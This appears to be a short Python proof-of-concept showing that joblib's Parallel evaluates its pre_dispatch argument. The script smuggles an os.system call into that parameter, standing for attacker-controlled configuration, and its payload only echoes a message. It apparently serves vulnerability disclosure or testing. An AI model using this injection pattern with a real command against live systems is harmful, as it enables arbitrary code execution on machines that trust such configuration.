from joblib import Parallel, delayed

# pre_dispatch comes from a configuration value the attacker controls.
pre_dispatch = "__import__('os').system('echo VULNERABLE: code ran from pre_dispatch') or 2"
print(Parallel(n_jobs=2, backend="threading", pre_dispatch=pre_dispatch)(delayed(abs)(-i) for i in range(4)))
